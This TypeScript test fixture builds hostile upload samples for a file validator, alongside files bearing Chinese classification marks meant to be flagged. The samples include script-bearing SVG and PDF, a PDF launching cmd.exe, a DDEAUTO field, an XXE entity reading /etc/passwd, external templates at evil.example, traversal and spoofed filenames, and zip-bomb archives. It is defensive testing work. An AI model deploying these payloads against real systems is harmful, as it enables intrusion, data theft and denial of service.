import { docx, pack, pdf, stream, xlsx } from './office-files';

export interface NastyFile {
  /** What is wrong with it. */
  what: string;
  name: string;
  bytes: Buffer;
  /** The type the sender declares; that of the ending if absent. */
  declared?: string;
  /** 400 for what no office needs, 422 for what bears a mark of classification. */
  status: 400 | 422;
}

const PAGE = '<html><script>fetch("/admin")</script></html>';
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const PNG = Buffer.from('89504e470d0a1a0a', 'hex');
const OUTSIDE = (type: string, target: string) =>
  `Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"`;
const plain = () => docx(['会议纪要（测试）']);

/** Files that must stay outside, some for each way in. Built here, so that none lies in the repository. `good` is a picture that is in order. */
export function nastyFiles(good: Buffer): NastyFile[] {
  const refused: [what: string, name: string, bytes: Buffer, declared?: string][] = [
    ['nothing', '空.pdf', Buffer.alloc(0)],
    ['a page', '页.html', Buffer.from(PAGE)],
    ['a picture that runs scripts', '图.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a page called a PDF', '页.pdf', Buffer.from(PAGE)],
    ['a page called a picture', '页.png', Buffer.from(PAGE)],
    ['a page called a text', '页.txt', Buffer.from(PAGE)],
    ['a page behind a PDF in the name', 'a.pdf.html', pdf('正文')],
    ['a page behind a null byte', 'a.pdf\0.html', pdf('正文')],
    ['an ending turned around', '年报\u202Efdp.exe', pdf('正文')],
    ['a program', '程序.exe', Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0')],
    ['a program called a PDF', '程序.pdf', Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0')],
    ['no ending', '纪要', pdf('正文')],
    ['an ending of objects', '纪要.constructor', pdf('正文')],
    ['a PDF called a picture', '图.jpg', pdf('正文')],
    ['a picture declared a page', '图.png', good, 'text/html'],
    ['a PDF declared a picture that runs scripts', '纪要.pdf', pdf('正文'), 'image/svg+xml'],
    ['a picture with a page behind it', '图.png', Buffer.concat([good, Buffer.from(PAGE)])],
    ['a picture with an archive behind it', '图.png', Buffer.concat([good, pack({ 'evil.js': 'x' })])],
    ['the head of a picture only', '图.png', PNG],
    ['a PDF that is an archive too', '纪要.pdf', Buffer.concat([pdf('正文'), pack({ 'evil.js': 'x' })])],
    ['a PDF with a script', '纪要.pdf', pdf('正文', ['<< /S /JavaScript /JS (app.alert(1)) >>'])],
    ['a PDF with a script spelt otherwise', '纪要.pdf', pdf('正文', ['<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>'])],
    [
      'a PDF with a script in a packed object',
      '纪要.pdf',
      Buffer.concat([pdf('正文'), stream(20, '21 0 << /S /JavaScript >>', '/Type /ObjStm ')]),
    ],
    ['a PDF that starts a program', '纪要.pdf', pdf('正文', ['<< /S /Launch /F (cmd.exe) >>'])],
    ['a PDF with a file in it', '纪要.pdf', pdf('正文', ['<< /Type /EmbeddedFile >>'])],
    ['an encrypted PDF', '纪要.pdf', pdf('正文', ['<< /Encrypt 9 0 R >>'])],
    ['a Word file with macros', '纪要.docx', docx(['正文'], { parts: { 'word/vbaProject.bin': 'x' } })],
    [
      'a Word file that admits macros',
      '纪要.docx',
      docx(['正文'], {
        parts: {
          '[Content_Types].xml':
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        },
      }),
    ],
    [
      'a Word file with a template elsewhere',
      '纪要.docx',
      docx(['正文'], { relations: [OUTSIDE('attachedTemplate', 'https://evil.example/t.dotm')] }),
    ],
    [
      'a Word file with a picture elsewhere',
      '纪要.docx',
      docx(['正文'], { relations: [OUTSIDE('image', 'https://evil.example/pixel.png')] }),
    ],
    ['a Word file with a link to a share', '纪要.docx', docx(['正文'], { relations: [OUTSIDE('hyperlink', 'file://evil.example/share')] })],
    ['a Word file with an object in it', '纪要.docx', docx(['正文'], { parts: { 'word/embeddings/oleObject1.bin': 'x' } })],
    [
      'a Word file with entities',
      '纪要.docx',
      docx(['正文'], { parts: { 'word/comments.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' } }),
    ],
    [
      'a Word file in an encoding that hides',
      '纪要.docx',
      docx(['正文'], { parts: { 'word/comments.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' } }),
    ],
    [
      'a Word file with a field that runs',
      '纪要.docx',
      docx(['正文'], { parts: { 'word/footer1.xml': '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>' } }),
    ],
    ['a Word file with a program in it', '纪要.docx', docx(['正文'], { parts: { 'word/media/a.exe': 'MZ' } })],
    ['an archive called a Word file', '纪要.docx', pack({ 'a.txt': 'x' })],
    ['an Excel file called a Word file', '纪要.docx', xlsx(['正文'])],
    ['an Excel file with another behind it', '表.xlsx', xlsx(['正文'], { parts: { 'xl/externalLinks/externalLink1.xml': '<x/>' } })],
    ['a part that leads out', '纪要.docx', docx(['正文'], { parts: { '../../evil.xml': '<x/>' } })],
    ['an archive cut short', '纪要.docx', plain().subarray(0, 300)],
    ['an encrypted part', '纪要.docx', withFlag(plain())],
    ['a part that lies about its size', '纪要.docx', lying(plain())],
    ['a part that unpacks without end', '纪要.docx', docx(['正文'], { parts: { 'word/media/zero.xml': Buffer.alloc(8 * 1024 * 1024) } })],
    [
      'too many parts',
      '纪要.docx',
      docx(['正文'], { parts: Object.fromEntries([...Array(2_100).keys()].map((n) => [`word/x${n}.xml`, '<x/>'])) }),
    ],
    ['an old Word file with macros', '纪要.doc', Buffer.concat([OLE, Buffer.alloc(600), Buffer.from('_VBA_PROJECT', 'utf16le')])],
    ['an old Word file with an object', '纪要.doc', Buffer.concat([OLE, Buffer.alloc(600), Buffer.from('\u0001Ole10Native', 'utf16le')])],
  ];
  const marked: [what: string, name: string, bytes: Buffer][] = [
    ['a mark in the name', '机密★10年 会议纪要.pdf', pdf('正文')],
    ['a mark in a Word file', '纪要.docx', docx(['会议纪要', '机密★5年'])],
    ['a mark in several runs of a Word file', '纪要.docx', docx([['机', '密', '★']])],
    [
      'a mark in the header of a Word file',
      '纪要.docx',
      docx(['正文'], { parts: { 'word/header1.xml': '<w:p><w:r><w:t>绝密★长期</w:t></w:r></w:p>' } }),
    ],
    ['a mark in an Excel file', '表.xlsx', xlsx(['姓名', '秘密★'])],
    ['a mark drawn letter by letter, white, in a PDF', '纪要.pdf', pdf('会议纪要 机密★长期')],
    [
      'a mark in the title of a PDF',
      '纪要.pdf',
      pdf('正文', [`<< /Title <feff${Buffer.from('秘密★', 'utf16le').swap16().toString('hex')}> >>`]),
    ],
    ['a mark in an old Word file', '纪要.doc', Buffer.concat([OLE, Buffer.alloc(601), Buffer.from('　绝密★　', 'utf16le')])],
    ['a level in a text', '纪要.txt', Buffer.from('密级：机密\n会议纪要')],
  ];
  return [
    ...refused.map(([what, name, bytes, declared]) => ({ what, name, bytes, status: 400 as const, ...(declared ? { declared } : {}) })),
    ...marked.map(([what, name, bytes]) => ({ what, name, bytes, status: 422 as const })),
  ];
}

/** Says of the first part that it is encrypted, in its own head and in the list. */
function withFlag(archive: Buffer): Buffer {
  const copy = Buffer.from(archive);
  copy.writeUInt16LE(copy.readUInt16LE(6) | 1, 6);
  const central = copy.indexOf(Buffer.from('504b0102', 'hex'));
  copy.writeUInt16LE(copy.readUInt16LE(central + 8) | 1, central + 8);
  return copy;
}

/** Says of the first part that it unpacks to a few bytes. */
function lying(archive: Buffer): Buffer {
  const copy = Buffer.from(archive);
  const central = copy.indexOf(Buffer.from('504b0102', 'hex'));
  copy.writeUInt32LE(4, central + 24);
  return copy;
}
